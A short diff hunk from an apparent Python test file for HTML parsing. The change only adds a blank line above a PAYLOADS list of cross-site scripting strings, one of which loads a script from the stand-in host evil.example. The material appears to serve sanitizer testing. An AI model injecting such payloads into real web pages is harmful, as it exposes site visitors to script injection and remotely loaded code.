@@ -33,6 +33,7 @@ def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
     parser.feed(html)
     return parser.found
 
+
 PAYLOADS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
